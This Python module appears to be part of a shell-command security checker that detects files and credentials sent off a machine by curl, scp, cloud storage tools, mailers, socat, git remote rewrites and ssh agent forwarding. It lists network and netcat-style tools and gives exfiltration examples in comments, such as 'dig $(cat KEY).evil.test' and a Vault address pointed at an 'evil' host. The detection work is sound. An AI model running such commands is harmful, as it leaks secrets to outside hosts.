"""Files a command sends to another machine (docs/security.md#named-patterns, ``exfiltration``).

:func:`uploads` reads each program's own way of naming what it sends: curl's and
httpie's ``-d @F``/``-T F``, wget's ``--post-file``, a copier's operands before a
remote one (``scp``, ``rsync``, ``rclone``, read as the programs read their
options, so the key of ``scp -i KEY`` is not a file sent), a file-transfer
client's ``put`` commands, cloud storage and release uploads (``aws s3 cp``,
``gsutil cp``, ``gcloud storage cp``, ``az storage blob upload``, ``azcopy``,
``s3cmd put``, ``gh gist create``, ``gh release upload``, ``docker|kubectl cp``,
``lxc file push``, ``multipass transfer``, ``croc send``, ``wormhole send``,
``pastebinit``, ``ffsend upload``, ``gcloud compute scp``), backups into a repository
(``restic backup``, ``borg create``), a file ``socat`` joins to a network address, a
key stored in a cluster (``kubectl create secret --from-file``), mail attachments
(``mail -A``/``-a``, ``mutt -a``), ``dig -f``'s queries, and a network tool's stdin.
A pure leaf.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence

from multiplex.shell.detection._command_checks import operands
from multiplex.shell.parsing._argv import git_subcommand, option_values
from multiplex.shell.parsing._getopt import read_options, table
from multiplex.shell.parsing._parsed import Redirect, SimpleCommand
from multiplex.shell.parsing.runs._git import git_config_write

__all__ = [
    "COPIERS",
    "NETWORK_TOOLS",
    "SENDS_STDIN",
    "SIGNS_IN",
    "UPLOADERS",
    "copier_operands",
    "git_remote_redefined",
    "ssh_config_files",
    "token_elsewhere",
    "uploads",
]

NC = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat"})
# Programs that reach another machine: a secret in their words (a substitution, a
# credential variable) or on their stdin is sent. DNS and ICMP tools carry a name
# or a pattern out as well (dig $(cat KEY).evil.test).
NETWORK_TOOLS = NC | {
    "socat", "telnet", "curl", "wget", "ssh", "openssl", "rclone", "scp", "sftp", "ftp",
    "lftp", "http", "https", "xh", "dig", "nslookup", "host", "drill", "delv", "ping",
    "ping6", "traceroute", "traceroute6", "tracepath", "mtr", "whois", "smbclient",
}  # fmt: skip
# What they read from stdin is sent: mailers, paste and gist clients too.
SENDS_STDIN = NETWORK_TOOLS | {
    "mail", "mailx", "s-nail", "sendmail", "msmtp", "ssmtp", "mutt", "neomutt", "pastebinit",
    "wgetpaste", "gh",
}  # fmt: skip

_COPIERS = frozenset({"scp", "rsync", "sftp", "rclone", "pscp"})
# Their options that take a value, so a value is not read as a file to send: the key
# of scp -i, rsync --exclude .env. OpenSSH's are short only; rsync's long ones are
# matched whole (popt takes no abbreviation: its flags that begin a valued option's
# name are listed, so --partial is not read as --partial-dir).
_SSH_COPY = "c= D= F= i= J= l= o= P= S= X= b= B= R= s="
_COPIER_OPTIONS = {
    "scp": table("", _SSH_COPY),
    "sftp": table("", _SSH_COPY),
    "rsync": table(
        "rsh= rsync-path= exclude= include= exclude-from= include-from= files-from= filter= "
        "password-file= log-file= log-file-format= temp-dir= partial-dir= compare-dest= "
        "copy-dest= link-dest= backup-dir= suffix= chmod= chown= usermap= groupmap= timeout= "
        "contimeout= bwlimit= port= address= sockopts= out-format= max-size= min-size= "
        "max-delete= max-alloc= block-size= checksum-choice= compress-choice= compress-level= "
        "skip-compress= iconv= info= debug= stop-after= stop-at= modify-window= outbuf= "
        "remote-option= checksum-seed= protocol= write-batch= only-write-batch= read-batch= "
        "early-input= copy-as= partial compress checksum backup",
        "e= f= B= T= M= @=",
    ),
}


COPIERS = frozenset(_COPIER_OPTIONS)
_SSH = table("", "B= b= c= D= E= e= F= I= i= J= L= l= m= O= o= P= p= Q= R= S= W= w=")


def ssh_config_files(prog: str, args: Sequence[str]) -> list[str]:
    """The files ssh, scp or sftp reads as its configuration (``-F FILE``): ssh prints each
    line it cannot read as an option, so a secret named there reaches the output."""
    spec = _SSH if prog == "ssh" else _COPIER_OPTIONS.get(prog) if prog != "rsync" else None
    return read_options(args, spec).values("-F") if spec and "F" in "".join(args) else []


def copier_operands(prog: str, args: Sequence[str]) -> list[str]:
    """The files and hosts a copier (scp, sftp, rsync …) is given, without its options' values."""
    spec = _COPIER_OPTIONS.get(prog)
    return list(read_options(args, spec).operands) if spec else operands(args)


# File-transfer clients that take their commands as text: from a here-string or
# here-document, or from an option (lftp -e/-c, tftp -c).
_FILE_CLIENTS = frozenset({"sftp", "ftp", "lftp", "ncftp", "tftp", "pftp", "yafc", "smbclient"})
_PUTS = frozenset({"put", "mput", "reput", "send", "append"})
_CLIENT_SCRIPT = ("-e", "-c")
_CURL_DATA = ("-d", "--data", "--data-binary", "--data-urlencode", "--json", "-F", "--form",
              "--variable", "--expand-data", "--expand-data-binary", "--expand-data-urlencode",
              "--expand-json", "--expand-form")  # fmt: skip  # curl 8.3's --variable NAME@FILE
_CURL_UPLOAD = ("-T", "--upload-file")
_WGET_POST = ("--post-file", "--body-file")
_REMOTE = re.compile(r"^(?:[A-Za-z0-9_.@-]+|\[[0-9a-fA-F:]+\]):(?!//)")
# Cloud storage, release and transfer tools: their local operands (or the values of
# the options naming a file) are sent when they upload.
_CLOUD = frozenset({"aws", "gsutil", "gcloud", "az", "azcopy", "s3cmd", "gh", "docker",
                    "podman", "kubectl", "oc", "lxc", "incus", "multipass", "croc",
                    "wormhole", "pastebinit", "wgetpaste", "mail", "mailx", "s-nail", "mutt",
                    "neomutt", "dig", "npm", "twine", "gem", "vagrant", "restic", "borg",
                    "ffsend", "socat", "mc", "b2"})  # fmt: skip
_BUCKET = re.compile(r"^(?:s3|gs|az|https?)://", re.IGNORECASE)
_CONTAINER_PATH = re.compile(r"^[A-Za-z0-9_.-]+(?:/[A-Za-z0-9_.-]+)?:")
# (mail's and mailx's -a is an attachment in BSD mailx and s-nail, a header in mailutils:
# read as the attachment, the safe side)
_MAIL_ATTACH = {"mail": ("-A", "--attach", "-a"), "mailx": ("-A", "--attach", "-a"),
                "s-nail": ("-a", "--attach"), "mutt": ("-a",), "neomutt": ("-a",)}  # fmt: skip
# socat's addresses that reach the network, and those that read a local file.
_SOCAT_NET = ("tcp", "udp", "ssl", "openssl", "sctp", "socks", "proxy", "dccp", "udp-")
_SOCAT_FILE = ("file:", "open:", "gopen:", "create:")
UPLOADERS = frozenset({"curl", "http", "https", "xh", "wget", *_COPIERS, *_FILE_CLIENTS, *_CLOUD})


def _cloud_uploads(prog: str, args: Sequence[str]) -> list[str]:
    """The local files an upload by a cloud, release, transfer or mail tool sends."""
    ops = operands(args)
    verbs = tuple(ops[:3])
    if prog == "gcloud" and verbs[:2] == ("compute", "scp") and len(ops) > 3:
        return ops[2:-1]  # gcloud compute scp F… VM:dst
    if prog in ("aws", "gsutil", "gcloud", "s3cmd", "azcopy"):
        # aws s3 cp|mv|sync F s3://B, gsutil cp F gs://B, gcloud storage cp, s3cmd put,
        # azcopy copy: the local sources when the destination (the last) is a bucket
        if len(ops) > 2 and _BUCKET.match(ops[-1]):
            first = 2 if prog in ("aws", "gcloud") else 1
            return [o for o in ops[first:-1] if "://" not in o]
        if prog == "aws" and verbs[:2] == ("s3api", "put-object"):
            return [v.removeprefix("fileb://").removeprefix("file://")
                    for v in option_values(args, ("--body",))]  # fmt: skip
        return []
    if prog == "az":  # az storage blob upload --file F, upload-batch --source D
        return option_values(args, ("--file", "-f", "--source", "-s")) if "storage" in verbs else []
    if prog == "gh":  # gh gist create F…, gh release upload|create TAG F…, gh api -F k=@F
        if verbs[:1] == ("api",):
            fields = option_values(args, ("-F", "--field"))
            return [f.partition("=@")[2] for f in fields if "=@" in f] + option_values(
                args, ("--input",)
            )
        if verbs[:2] == ("gist", "create"):
            return ops[2:]
        return ops[3:] if verbs[:2] in (("release", "upload"), ("release", "create")) else []
    if prog in ("docker", "podman", "kubectl", "oc"):  # docker cp F C:/dst, kubectl cp F P:/dst
        if verbs[:1] == ("cp",) and len(ops) > 2 and _CONTAINER_PATH.match(ops[-1]):
            return ops[1:-1]
        if prog in ("kubectl", "oc") and verbs[:2] in (
            ("create", "secret"),
            ("create", "configmap"),
        ):
            # kubectl create secret generic x --from-file=[KEY=]F: the file stored in the cluster
            values = option_values(args, ("--from-file", "--from-env-file"))
            return [v.rpartition("=")[2] for v in values]
        return []
    if prog in ("lxc", "incus"):  # lxc file push F C/dst
        return ops[2:-1] if verbs[:2] == ("file", "push") else []
    if prog in ("multipass", "vagrant"):  # multipass transfer F vm:dst, vagrant upload F
        return ops[1:-1] if verbs[:1] in (("transfer",), ("upload",)) else []
    if prog in ("croc", "wormhole"):  # croc send F, wormhole send F
        return ops[1:] if verbs[:1] == ("send",) else []
    if prog == "ffsend":  # ffsend upload F
        return ops[1:] if verbs[:1] in (("upload",), ("u",), ("up",)) else []
    if prog == "restic":  # restic -r REPO backup PATH…: every path copied into the repository
        return ops[ops.index("backup") + 1 :] if "backup" in ops else []
    if prog == "borg":  # borg create REPO::ARCHIVE PATH…
        return ops[2:] if verbs[:1] == ("create",) else []
    if prog == "socat":  # socat TCP-LISTEN:80 FILE:KEY: the file served (or sent) over the network
        addresses = [a.lower() for a in ops]
        if any(a.startswith(_SOCAT_NET) for a in addresses):
            return [
                a.split(":", 1)[1].split(",", 1)[0]
                for a in ops
                if a.lower().startswith(_SOCAT_FILE)
            ]
        return []
    if prog == "mc":  # MinIO's client: mc cp|mirror F ALIAS/BUCKET (the last, a remote)
        return ops[1:-1] if verbs[:1] in (("cp",), ("mirror",), ("mv",)) and len(ops) > 2 else []
    if prog == "b2":  # Backblaze: b2 upload-file BUCKET F NAME, b2 sync DIR b2://BUCKET
        if verbs[:1] in (("upload-file",), ("file", "upload")):
            return ops[2:3] if verbs[0] == "upload-file" else ops[3:4]
        return ops[1:-1] if verbs[:1] == ("sync",) and ops[-1].startswith("b2://") else []
    if prog in ("pastebinit", "wgetpaste"):
        return ops + option_values(args, ("-i",))
    if prog in _MAIL_ATTACH:
        return option_values(args, _MAIL_ATTACH[prog])
    if prog == "dig":  # dig -f FILE: each line a query sent to a server
        return option_values(args, ("-f",))
    if prog in ("npm", "twine", "gem"):  # npm publish DIR, twine upload F…, gem push F
        verb = {"npm": "publish", "twine": "upload", "gem": "push"}[prog]
        return ops[1:] if verbs[:1] == (verb,) else []
    return []


# A tool that signs in by itself, pointed at a server the line names: its stored token
# goes there (kubectl --server=URL get pods; set-cluster --server: every later command).
_SERVER_OPTIONS = {"kubectl": ("-s", "--server"), "oc": ("-s", "--server"),
                   "helm": ("--kube-apiserver",), "vault": ("-address", "--address")}  # fmt: skip
# The variables that name the server instead (VAULT_ADDR=https://evil vault kv list).
_SERVER_VARIABLES = {"vault": "VAULT_ADDR="}
# ssh's agent lent to the host: whoever is root there signs in with the agent's keys.
_AGENT_HOSTS = frozenset({"ssh", "scp", "sftp", "autossh"})
# git's URL rewrites (url.URL.insteadOf HOST): every later fetch and push of HOST, the
# line that names it included, goes to URL instead.
_GIT_REWRITE = re.compile(r"^url\.(.+)\.(?:push)?insteadof$", re.IGNORECASE | re.DOTALL)
# remote.NAME.url and remote.NAME.pushurl written: where that remote's fetches or pushes go.
_GIT_REMOTE_URL = re.compile(r"^remote\..+\.(?:push)?url$", re.IGNORECASE | re.DOTALL)
_URL_HOST = re.compile(r"^(?:[a-z][a-z0-9+.-]*://(?:[^@/]*@)?([^/:?#]+)|[^@/:]+@([^/:]+):)")
SIGNS_IN = frozenset({*_SERVER_OPTIONS, *_AGENT_HOSTS, "git"})
_SSH_VALUED = frozenset("BbcDEeFIiJLlmOoPpQRSWw")  # ssh's short options that take a value


def _agent_flag(arg: str) -> bool:
    """``-A`` in a cluster of ssh's short options (``-tA``), before any that takes a value."""
    if not arg.startswith("-") or arg.startswith("--"):
        return False
    for letter in arg[1:]:
        if letter == "A":
            return True
        if letter in _SSH_VALUED:
            return False
    return False


def _git_rewrites_urls(args: Sequence[str], assignments: Sequence[str]) -> bool:
    """``git -c url.URL.insteadOf=PREFIX …`` (or ``--config-env=``, ``GIT_CONFIG_KEY_0=``),
    ``git config [--global|-f F|set] url.URL.insteadOf PREFIX``: what git fetches and pushes
    for PREFIX goes to another host the line names (``url.https://github.com/.insteadOf
    git@github.com:`` keeps the host: not one). Also a remote's own address written
    (``remote.NAME.url``/``pushurl``, ``git remote set-url``): the line does not show the
    address it had, so any new one is read as elsewhere."""
    sub, rest = git_subcommand(args)
    front = args[: len(args) - len(rest)]
    settings = [s.partition("=") for s in option_values(front, ("-c",))]
    settings += [(s.partition("=")[0], "", "") for s in option_values(front, ("--config-env",))]
    settings += [
        (a.partition("=")[2], "", "") for a in assignments if a.startswith("GIT_CONFIG_KEY_")
    ]
    if sub == "config" and (written := git_config_write(rest)) is not None:
        settings.append((written[0], "=", written[1]))
    if sub == "remote" and _sets_remote_url(rest):
        return True
    for key, _eq, value in settings:
        if _GIT_REMOTE_URL.match(key.strip()):
            return True  # remote.origin.pushurl: where that remote's pushes go from now on
        found = _GIT_REWRITE.match(key.strip())
        if found is None:
            continue
        target = _url_host(found.group(1))
        if target is None or target != _url_host(value):
            return True
    return False


def _sets_remote_url(rest: Sequence[str]) -> bool:
    """``git remote set-url [--push|--add] NAME URL``: a remote the repository has
    already (``origin``, which an allowlisted ``git push origin main`` trusts) sent
    elsewhere; not ``--delete``, which only takes an address away."""
    words = [w for w in rest if w != "--"]
    if words[:1] != ["set-url"] or "--delete" in words:
        return False
    return len([w for w in words[1:] if not w.startswith("-")]) >= 2


def git_remote_redefined(args: Sequence[str], removed: set[str]) -> bool:
    """``git remote add NAME URL`` for a NAME that ``git remote remove|rm|rename NAME``
    took away earlier on the line (``removed``, which this call keeps): the same remote,
    sent elsewhere, as ``set-url`` does."""
    sub, rest = git_subcommand(args)
    if sub != "remote":
        return False
    words = [w for w in rest if not w.startswith("-")]
    if words[:1] in (["remove"], ["rm"], ["rename"]) and len(words) >= 2:
        removed.add(words[1])
    return words[:1] == ["add"] and len(words) >= 3 and words[1] in removed


def _url_host(url: str) -> str | None:
    """The host of a git URL (``https://h/…``, ``ssh://u@h:22/…``, ``u@h:path``), or None."""
    found = _URL_HOST.match(url.strip())
    return None if found is None else (found.group(1) or found.group(2)).lower()


def token_elsewhere(prog: str, args: Sequence[str], assignments: Sequence[str] = ()) -> bool:
    """Whether ``prog``'s stored credential is sent to (or its ssh agent lent to) a server
    the line names, or (git) its fetches and pushes are sent to one."""
    if prog == "git":
        return _git_rewrites_urls(args, assignments)
    if prog in _AGENT_HOSTS:
        settings = [a[2:] for a in args if a.startswith("-o")] + option_values(args, ("-o",))
        return any(_agent_flag(a) for a in args) or any(
            o.replace(" ", "=").lower() in ("forwardagent=yes", "forwardagent=true")
            for o in settings
        )
    variable = _SERVER_VARIABLES.get(prog)
    if variable is not None and any(a.startswith(variable) for a in assignments):
        return True
    names = _SERVER_OPTIONS.get(prog)
    return names is not None and any(
        a in names
        or a.startswith(tuple(n + "=" for n in names if n.startswith("--") or n == "-address"))
        for a in args
    )


def uploads(cmd: SimpleCommand) -> Iterator[str]:
    """Paths ``cmd`` sends to the network by its own options or its stdin (curl -d @f,
    scp f host:, aws s3 cp f s3://b, gh gist create f, mail -A f, dig -f f)."""
    prog = cmd.program
    args = cmd.argv[1:]
    if prog in ("curl", "http", "https", "xh"):
        for i, arg in enumerate(args):
            value = args[i + 1] if i + 1 < len(args) else ""
            for opt in _CURL_DATA + _CURL_UPLOAD:
                if arg.startswith(opt + "="):
                    value = arg[len(opt) + 1 :]
                elif arg != opt:
                    continue
                if opt in _CURL_UPLOAD:
                    yield value
                elif "@" in value:
                    yield value.split("@", 1)[1].split(";", 1)[0]
                elif "<" in value:
                    yield value.split("<", 1)[1]
            if prog != "curl" and "@" in arg and not arg.startswith("-"):
                yield arg.split("@", 1)[1]
    elif prog == "wget":
        for i, arg in enumerate(args):
            for opt in _WGET_POST:
                if arg.startswith(opt + "="):
                    yield arg[len(opt) + 1 :]
                elif arg == opt and i + 1 < len(args):
                    yield args[i + 1]
    if prog in _FILE_CLIENTS:  # sftp <<< 'put .env', lftp -e 'put .env', tftp -c put .env
        yield from _client_puts(prog, args, cmd.redirects)
        if prog == "ftp" and "-u" in args:  # ftp -u URL F…: each file uploaded to URL
            yield from operands(args)[1:]
    elif prog in _COPIERS:
        ops = copier_operands(prog, args)
        if len(ops) > 1 and (_REMOTE.match(ops[-1]) or prog == "rclone"):
            yield from ops[:-1]
    elif prog in _CLOUD:
        yield from _cloud_uploads(prog, args)
    for r in cmd.redirects:
        if r.op in ("<", "0<") and prog in SENDS_STDIN:
            yield r.target


def _client_puts(prog: str, args: Sequence[str], redirects: tuple[Redirect, ...]) -> Iterator[str]:
    """The local files a file-transfer client's own commands send (``put F``, ``mput F G``)."""
    texts = [r.target for r in redirects if r.op.startswith("<<")]
    for i, arg in enumerate(args[:-1]):
        if arg in _CLIENT_SCRIPT:
            texts.append(" ".join(args[i + 1 :]) if prog == "tftp" else args[i + 1])
    for text in texts:
        for step in re.split(r"[;\n]", text):
            words = step.split()
            if words and words[0].lower() in _PUTS:
                yield from (w for w in words[1:] if not w.startswith("-"))
